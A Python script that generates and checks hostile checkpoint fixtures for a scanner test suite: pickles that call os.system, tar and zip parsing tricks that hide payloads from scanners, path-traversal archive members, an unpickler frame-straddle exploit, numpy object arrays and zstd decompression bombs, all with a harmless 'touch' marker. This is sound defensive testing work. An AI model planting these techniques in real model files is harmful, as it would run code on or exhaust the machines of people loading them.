#!/usr/bin/env python3
"""Hostile fixtures of issue 29 (round 3) — loader parity — written and checked with the
oracle's real torch, tarfile and numpy:

    scripts/oracle python testdata/hostile/round3.py gen OUTDIR [--resources]
    scripts/oracle python testdata/hostile/round3.py check PATH...

`check` loads each path the way its loader does — the loader is in the file name's
prefix — and prints JSON: whether the payload ran (the marker file appeared) and the error
the load ended with. Every payload runs `touch /tmp/ckpt-marker`. NEVER load these files
outside the oracle chroot.

Loaders (the prefix of a fixture's name):
  torch_      torch.load(path, weights_only=False), for files and folders' listed files
  oldpy_      torch.load(path, weights_only=False, pickle_module=oldpickle): the reading
              of CPython before 3.14.7 / 3.13.15 (see OldUnpickler), which the oracle's
              3.14 no longer has
  nemo_       NeMo 1's restore_from, replicated (see nemo_restore)
  numpy_      np.load(path, allow_pickle=True), every array of an .npz read
  trainer_    a folder: torch.load of each *.bin / *.pth / *.pt file in it, as
              transformers' Trainer resumes from a checkpoint-N folder
  res_        (--resources, not committed) resource bombs: not loaded, read by ckpt
              under a memory limit
"""

import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import zipfile

MARKER = "/tmp/ckpt-marker"
CMD = "touch " + MARKER
P0 = b"cposix\nsystem\n(S'" + CMD.encode() + b"'\ntR."  # protocol 0: os.system(CMD)


class Pwn:
    def __reduce__(self):
        return (os.system, (CMD,))


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def op_str(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE


# --- tar -----------------------------------------------------------------------------

def tar_header(name, size, typ=b"0", prefix=b"", magic=b"ustar\x0000", devmajor=b"0000000\x00", linkname=b""):
    """One 512-byte tar header, checksum filled in."""
    h = bytearray(512)
    h[0:len(name)] = name
    h[157:157 + len(linkname)] = linkname
    h[100:108] = b"0000644\x00"
    h[108:116] = b"0000000\x00"
    h[116:124] = b"0000000\x00"
    h[124:136] = b"%011o\x00" % size
    h[136:148] = b"00000000000\x00"
    h[156:157] = typ
    h[257:257 + len(magic)] = magic
    h[329:337] = devmajor
    h[337:345] = b"0000000\x00"
    h[345:345 + len(prefix)] = prefix
    h[148:156] = b"        "
    h[148:156] = b"%06o\x00 " % sum(h)
    return bytes(h)


def tar_member(name, data, **kw):
    return tar_header(name, len(data), **kw) + data + bytes(-len(data) % 512)


def legacy_tar_members(obj_pickle):
    """The three members of a legacy (torch < 0.4) tar checkpoint holding no tensors:
    storages (count 0, then the storage views []), tensors (count 0), pickle."""
    return (tar_member(b"storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
            + tar_member(b"tensors", pickle.dumps(0, protocol=2))
            + tar_member(b"pickle", obj_pickle))


def torch_bytes(obj):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def tars(out):
    import torch
    clean = pickle.dumps({"step": 3}, protocol=2)
    evil = pickle.dumps({"x": Pwn()}, protocol=2)
    # A ustar "pickle" member holding the payload, then a V7 header (no magic) named
    # "pickle" with the prefix "x": tarfile names it x/pickle (it joins a prefix whatever
    # the magic) and torch reads the payload; archive/tar ignores a V7 prefix and took the
    # later, clean one for the "pickle" torch reads.
    write(os.path.join(out, "torch_tar_v7_prefix.pt"),
          legacy_tar_members(evil) + tar_member(b"pickle", clean, magic=b"", prefix=b"x") + bytes(1024))
    # A V7 header whose device number is not a number: tarfile refuses the archive, and
    # torch.load unpickles the file from byte 0 — the header's name field is a payload
    # pickle. archive/tar does not read a V7 header's device numbers and lists members.
    write(os.path.join(out, "torch_tar_python_rejects.pt"),
          tar_header(P0, 0, magic=b"", devmajor=b"junk\x00\x00\x00\x00") + legacy_tar_members(clean) + bytes(1024))
    # A valid header whose name field is a payload pickle, then a member whose bytes run
    # past the end: tarfile raises ReadError listing the members, and torch.load
    # unpickles the file from byte 0.
    write(os.path.join(out, "torch_tar_listing_fails.pt"),
          tar_member(P0, b"x") + tar_header(b"pickle", 1 << 20) + clean)
    # The "pickle" member a hard link to another member: tar.extractfile reads the target.
    write(os.path.join(out, "torch_tar_hardlink.pt"),
          legacy_tar_members(clean)[:-(512 + len(clean) + (-len(clean) % 512))] + tar_member(b"object", evil)
          + tar_header(b"pickle", 0, typ=b"1", linkname=b"object") + bytes(1024))
    # Both a .nemo archive (its restore loads a clean model_weights.ckpt) and a legacy
    # torch tar (torch.load runs the payload of its "pickle" member).
    weights = torch_bytes({"w": torch.arange(4.0)})
    both = (tar_member(b"./model_config.yaml", b"a: 1\n") + tar_member(b"./model_weights.ckpt", weights)
            + legacy_tar_members(evil) + bytes(1024))
    write(os.path.join(out, "torch_nemo_and_tar.nemo"), both)
    write(os.path.join(out, "nemo_nemo_and_tar.nemo"), both)


# --- NeMo 1 --------------------------------------------------------------------------

def nemo_tar(path, extra=(), weights=None, pax_size=None, huge=False):
    """A .nemo archive written as NeMo's _make_nemo_file_from_folder does (tarfile, "w:",
    arcname "."), with extra members appended by hand."""
    import torch
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, "model_config.yaml"), "w") as f:
            f.write("target: x\n")
        torch.save(weights if weights is not None else {"w": torch.arange(4.0)}, os.path.join(d, "model_weights.ckpt"))
        with tarfile.open(path, "w:") as tar:
            tar.add(d, arcname=".")
    with open(path, "rb") as f:
        data = f.read().rstrip(b"\x00")
    data += bytes(-len(data) % 512)
    for name, body in extra:
        data += tar_member(name, body)
    if pax_size is not None:
        # A PAX record giving a size other than the header's: tarfile takes the PAX one.
        rec = b"size=%d\n" % pax_size
        n = len(rec) + 3
        rec = b"%d " % n + rec
        data += tar_header(b"PaxHeader", len(rec), typ=b"x") + rec + bytes(-len(rec) % 512)
        data += tar_member(b"./tokenizer.model", b"tok") + tar_member(b"./vocab.txt", b"a\nb\n")
    if huge:
        data += tar_header(b"./vocab.txt", 1 << 40)
    write(path, data + bytes(1024))


def nemos(out):
    nemo_tar(os.path.join(out, "nemo_dotdot.nemo"), extra=[(b"../escaped.txt", b"escaped\n")])
    nemo_tar(os.path.join(out, "nemo_absolute.nemo"), extra=[(b"/tmp/ckpt-absolute.txt", b"escaped\n")])
    nemo_tar(os.path.join(out, "nemo_pax_size.nemo"), pax_size=1024)
    nemo_tar(os.path.join(out, "nemo_huge.nemo"), huge=True)


def nemo_restore(path):
    """NeMo 1's SaveRestoreConnector.restore_from, replicated from NVIDIA/NeMo
    (nemo/core/connectors/save_restore_connector.py: _tar_open, _unpack_nemo_file,
    _safe_extract, _is_safe_path, _load_state_dict_from_disk) — NeMo is not packaged in
    Debian: open the archive "r:" (else "r:gz"), extract every member but those whose
    normalized name is absolute or has a ".." component and links (skipped with a
    warning), then torch.load the extracted model_weights.ckpt. Returns the names
    skipped."""
    import torch
    tar_header = "r:"
    try:
        tarfile.open(path, tar_header).close()
    except tarfile.ReadError:
        tar_header = "r:gz"
    skipped = []
    with tempfile.TemporaryDirectory() as d, tarfile.open(path, tar_header) as tar:
        extract_to = os.path.realpath(d)
        for member in tar.getmembers():
            member_path = os.path.normpath(member.name)
            unsafe = (os.path.isabs(member_path) or ".." in member_path.split(os.sep)
                      or os.path.commonprefix([os.path.join(extract_to, member_path), extract_to]) != extract_to
                      or member.issym() or member.islnk())
            if unsafe:
                skipped.append(member.name)
                continue
            tar.extract(member, extract_to)
        torch.load(os.path.join(extract_to, "model_weights.ckpt"), map_location="cpu", weights_only=False)
    return skipped


# --- zip: torch finds records whatever their case -------------------------------------

def rezip(src, dst, rename=None, extra=()):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            name = rename(info.filename) if rename else info.filename
            zout.writestr(zipfile.ZipInfo(name), zin.read(info.filename))
        for name, data in extra:
            zout.writestr(zipfile.ZipInfo(name), data)


def zips(out):
    import torch
    tmp = os.path.join(out, "tmp")
    os.makedirs(tmp, exist_ok=True)
    torch.save({"w": torch.arange(4.0), "x": Pwn()}, os.path.join(tmp, "evil.pt"))
    torch.save({"w": torch.arange(4.0)}, os.path.join(tmp, "clean.pt"))
    evil_pkl = zipfile.ZipFile(os.path.join(tmp, "evil.pt")).read("evil/data.pkl")
    # archive/DATA.PKL alone answers torch's lookup of data.pkl.
    rezip(os.path.join(tmp, "evil.pt"), os.path.join(out, "torch_zip_upper.pt"), lambda n: n.replace("data.pkl", "DATA.PKL"))
    # A clean data.pkl and a payload DATA.PKL: torch's binary search over the names sorted
    # without case opens DATA.PKL.
    rezip(os.path.join(tmp, "clean.pt"), os.path.join(out, "torch_zip_both.pt"), extra=[("clean/DATA.PKL", evil_pkl)])
    shutil.rmtree(tmp)


# --- pickles -------------------------------------------------------------------------

def pickles(out):
    import torch
    # 10 001 nested MARKs (the scanner follows 10 000), then the payload.
    os.makedirs(os.path.join(out, "trainer_deep", "checkpoint-10"))
    ck = os.path.join(out, "trainer_deep", "checkpoint-10")
    write(os.path.join(ck, "training_args.bin"), b"(" * 10001 + P0)
    torch.save({"python": 1, "numpy": 2, "cpu": torch.zeros(4, dtype=torch.uint8)}, os.path.join(ck, "rng_state.pth"))
    with open(os.path.join(ck, "trainer_state.json"), "w") as f:
        f.write('{"global_step": 10}\n')
    write(os.path.join(out, "torch_deep.pkl"), b"(" * 10001 + P0)
    # A protocol-4 data.pkl with a SHORT_BINUNICODE of 32 bytes of which 5 are in its
    # FRAME: CPython 3.14.7+ refuses it; before, reading a file without peek() (torch's
    # BytesIO of the record), the string is the 32 bytes after the frame and the payload
    # after them runs; reading bytes, the string takes 27 and a SHORT_BINBYTES swallows it.
    payload = op_str("posix") + op_str("system") + b"\x93" + op_str(CMD) + b"\x85R"
    body = b"\x8c\x20abcde"
    after = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0" + b"C" + bytes([3 + len(payload)]) + b"zzz"
    pkl = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + after + payload + b"."
    w = torch._C.PyTorchFileWriter(os.path.join(out, "oldpy_frame_straddle.pt"))
    w.write_record("data.pkl", pkl, len(pkl))
    w.write_record("byteorder", b"little", 6)
    w.write_end_of_file()
    shutil.copy(os.path.join(out, "oldpy_frame_straddle.pt"), os.path.join(out, "torch_frame_straddle.pt"))


# --- numpy ---------------------------------------------------------------------------

def numpys(out):
    import numpy as np
    obj = np.empty(2, dtype=object)
    obj[0], obj[1] = Pwn(), 1.5
    np.save(os.path.join(out, "numpy_object.npy"), obj, allow_pickle=True)
    np.savez_compressed(os.path.join(out, "numpy_object.npz"), np.arange(4.0), obj)
    write(os.path.join(out, "numpy_pickle.npy"), pickle.dumps({"x": Pwn()}, protocol=2))
    st = np.zeros(2, dtype=[("a", "<f4"), ("b", "O")])
    st["b"][0] = Pwn()
    np.save(os.path.join(out, "numpy_structured.npy"), st, allow_pickle=True)
    d = os.path.join(out, "numpy_folder")
    os.makedirs(d)
    np.save(os.path.join(d, "weights.npy"), np.arange(6.0).reshape(2, 3))
    np.save(os.path.join(d, "optimizer_state.npy"), obj, allow_pickle=True)
    with open(os.path.join(d, "config.json"), "w") as f:
        f.write('{"model_type": "x"}\n')
    import torch
    torch.save({"w": torch.arange(4.0)}, os.path.join(d, "pytorch_model.bin"))


# --- DCP items compressed with torch's ZStandard extension ----------------------------

def rle_frame(blocks, raw=b""):
    """A zstd frame of RLE blocks of 128 KiB of zeros: 4 bytes each, the most zstd
    regenerates per byte (49152 blocks: 192 KiB inflating to 6 GiB), after a raw block of
    raw bytes."""
    b = bytearray(b"\x28\xb5\x2f\xfd\x00\x38")
    if raw:
        b += struct.pack("<I", len(raw) << 3)[:3] + raw
    for i in range(blocks):
        h = 1 << 1 | (128 << 10) << 3 | (1 if i == blocks - 1 else 0)
        b += struct.pack("<I", h)[:3] + b"\x00"
    return bytes(b)


def dcp_zstd_lie(path, numel, item):
    """A DCP folder torch writes with its ZStandard extension, whose tensor "w" is then
    rewritten: its item's bytes replaced by item, its size in the metadata by numel."""
    import torch
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint._extension import ZStandard
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import ChunkStorageMetadata, TensorStorageMetadata
    dcp.save({"w": torch.arange(4.0), "step": 3}, storage_writer=dcp.FileSystemWriter(path, _extensions=[ZStandard()]), no_dist=True)
    with open(os.path.join(path, ".metadata"), "rb") as f:
        md = pickle.load(f)
    for rel in {i.relative_path for i in md.storage_data.values()}:
        with open(os.path.join(path, rel), "rb") as f:
            data = f.read()
        out = bytearray()
        for idx, info in sorted(md.storage_data.items(), key=lambda kv: kv[1].offset):
            if info.relative_path != rel:
                continue
            b = item if idx.fqn == "w" else data[info.offset:info.offset + info.length]
            md.storage_data[idx] = _StorageInfo(rel, len(out), len(b), info.transform_descriptors)
            out += b
        write(os.path.join(path, rel), bytes(out))
    w = md.state_dict_metadata["w"]
    md.state_dict_metadata["w"] = TensorStorageMetadata(w.properties, torch.Size([numel]),
                                                        [ChunkStorageMetadata(torch.Size([0]), torch.Size([numel]))])
    with open(os.path.join(path, ".metadata"), "wb") as f:
        pickle.dump(md, f)


def resources(out):
    """Small files that make a naive reader inflate 6 GiB (cmd/ckpt's TestHostileZstd)."""
    bomb = rle_frame(49152)
    # The metadata says w holds 2**40 floats (4 TiB): more than 192 KiB of zstd regenerate.
    dcp_zstd_lie(os.path.join(out, "res_dcp_zstd_claim"), 1 << 40, bomb)
    # The metadata says 6 GiB, and the item inflates to 6 GiB of zeros: no archive.
    dcp_zstd_lie(os.path.join(out, "res_dcp_zstd_zeros"), (6 << 30) // 4, bomb)
    # A zip record named data.pkl, then zeros.
    head = b"PK\x03\x04" + bytes(22) + struct.pack("<HH", 16, 0) + b"archive/data.pkl"
    dcp_zstd_lie(os.path.join(out, "res_dcp_zstd_forged"), (6 << 30) // 4, rle_frame(49152, head))


# --- the older CPython reading -------------------------------------------------------

class _OldCReader:
    """How CPython's C unpickler (Modules/_pickle.c) before 3.14.7 / 3.13.15 reads a file
    object without peek() — torch's BytesIO of a zip record, a tar member — or a frame of
    8 KiB or more: its input buffer holds exactly the bytes it last fetched.
    _Unpickler_Read(n) serves n bytes from the buffer when they are there, else
    _Unpickler_ReadFromFile replaces the buffer with the next n bytes of the file, dropping
    what was left of it; _Unpickler_Readline likewise reads a whole line from the file when
    the buffer holds no newline; load_frame fetches the frame with _Unpickler_Read and
    rewinds to its start; load_counted_binbytes reads a bytes payload with
    _Unpickler_ReadInto, which takes what the buffer has and the rest from the file. (The
    pure-Python pickle._Unpickler and CPython 3.14.7+ refuse an argument that runs past
    its frame instead.)"""

    def __init__(self, f):
        self.f, self.buf, self.pos = f, b"", 0

    def read(self, n):
        if n <= len(self.buf) - self.pos:
            r = self.buf[self.pos:self.pos + n]
            self.pos += n
            return r
        self.buf = self.f.read(n)
        self.pos = len(self.buf)
        if len(self.buf) < n:
            raise pickle.UnpicklingError("pickle data was truncated")
        return self.buf

    def readinto(self, b):
        n = len(b)
        k = min(len(self.buf) - self.pos, n)
        b[:k] = self.buf[self.pos:self.pos + k]
        self.pos += k
        rest = self.f.read(n - k)
        if len(rest) < n - k:
            raise pickle.UnpicklingError("pickle data was truncated")
        b[k:] = rest
        return n

    def readline(self):
        i = self.buf.find(b"\n", self.pos)
        if i >= 0:
            r = self.buf[self.pos:i + 1]
            self.pos = i + 1
            return r
        self.buf = self.f.readline()
        self.pos = len(self.buf)
        if not self.buf.endswith(b"\n"):
            raise pickle.UnpicklingError("pickle data was truncated")
        return self.buf

    def load_frame(self, n):
        self.read(n)
        self.pos -= n


class OldUnpickler(pickle._Unpickler):
    """pickle._Unpickler reading through _OldCReader, bytes payloads read as the C
    unpickler reads them (readinto)."""

    def __init__(self, file, **kw):
        super().__init__(file, **kw)
        self._file = file

    def load(self):
        r = _OldCReader(self._file)
        self._unframer = r
        self.read, self.readinto, self.readline = r.read, r.readinto, r.readline
        self.metastack, self.stack, self.proto = [], [], 0
        self.append = self.stack.append
        try:
            while True:
                key = self.read(1)
                if not key:
                    raise EOFError
                self.dispatch[key[0]](self)
        except pickle._Stop as stop:
            return stop.value

    def _bytes(self, n):
        b = bytearray(n)
        self.readinto(b)
        self.append(bytes(b))

    dispatch = dict(pickle._Unpickler.dispatch)
    dispatch[pickle.SHORT_BINBYTES[0]] = lambda self: self._bytes(self.read(1)[0])
    dispatch[pickle.BINBYTES[0]] = lambda self: self._bytes(struct.unpack("<I", self.read(4))[0])
    dispatch[pickle.BINBYTES8[0]] = lambda self: self._bytes(struct.unpack("<Q", self.read(8))[0])


class oldpickle:
    """A pickle_module for torch.load with the older reading."""
    Unpickler = OldUnpickler
    __name__ = "oldpickle"

    @staticmethod
    def load(f, **kw):
        return OldUnpickler(f, **kw).load()


# --- check ---------------------------------------------------------------------------

def load(path):
    import torch
    name = os.path.basename(path.rstrip("/"))
    if name.startswith("torch_"):
        return torch.load(path, weights_only=False)
    if name.startswith("oldpy_"):
        return torch.load(path, weights_only=False, pickle_module=oldpickle)
    if name.startswith("nemo_"):
        return nemo_restore(path)
    if name.startswith("numpy_"):
        import numpy as np
        paths = [path]
        if os.path.isdir(path):
            paths = [os.path.join(path, f) for f in sorted(os.listdir(path)) if f.endswith((".npy", ".npz"))]
        for p in paths:
            r = np.load(p, allow_pickle=True)
            if hasattr(r, "files"):
                [r[k] for k in r.files]
        return None
    if name.startswith("trainer_"):
        for root, _, files in os.walk(path):
            for f in sorted(files):
                if f.endswith((".bin", ".pth", ".pt")):
                    try:
                        torch.load(os.path.join(root, f), weights_only=False)
                    except Exception:
                        pass
        return None
    raise ValueError("no loader for " + name)


def check(paths):
    report = {}
    for path in paths:
        if os.path.exists(MARKER):
            os.remove(MARKER)
        err, result = "", None
        try:
            result = load(path)
        except BaseException as e:
            err = f"{type(e).__name__}: {e}"[:500]
        report[path] = {"executed": os.path.exists(MARKER), "error": err,
                        "result": result if isinstance(result, list) else None}
    json.dump(report, sys.stdout, indent=1)


def main():
    if sys.argv[1] == "gen":
        out = sys.argv[2]
        os.makedirs(out, exist_ok=True)
        tars(out)
        nemos(out)
        zips(out)
        pickles(out)
        numpys(out)
        if "--resources" in sys.argv:
            resources(out)
    else:
        check(sys.argv[2:])


if __name__ == "__main__":
    main()
